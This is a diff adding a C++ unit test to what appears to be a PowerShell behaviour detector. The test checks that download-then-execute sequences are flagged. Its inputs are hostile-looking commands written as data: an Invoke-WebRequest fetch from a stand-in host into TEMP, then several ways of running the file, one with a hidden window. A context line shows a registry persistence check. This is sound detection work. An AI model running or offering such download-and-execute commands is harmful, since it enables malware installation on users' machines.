@@ -146,6 +146,19 @@ TEST(PowerShell, FetchesAndRuns) {
       std::string::npos);
 }
 
+TEST(PowerShell, RunsWhatItFetchedByEveryNameOfIt) {
+  for (const std::string_view run :
+       {"& $env:TEMP\\a.exe", "& \"$env:TEMP\\a.exe\"", "Start-Process \"$env:TEMP\\a.exe\"",
+        "Start-Process $env:TEMP\\a.exe -WindowStyle Hidden"}) {
+    const std::string facts =
+        PowerShell("iwr https://h.example/a -OutFile $env:TEMP\\a.exe\n" + std::string(run) + "\n");
+    EXPECT_NE(facts.find("download-run 2 host=h.example how=file"), std::string::npos) << facts;
+  }
+  const std::string other =
+      PowerShell("iwr https://h.example/a -OutFile $env:TEMP\\a.exe\n& $env:TEMP\\b.exe\n");
+  EXPECT_EQ(other.find("download-run"), std::string::npos) << other;
+}
+
 TEST(PowerShell, SeesPersistenceAndDefences) {
   EXPECT_EQ(
       PowerShell("Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion"
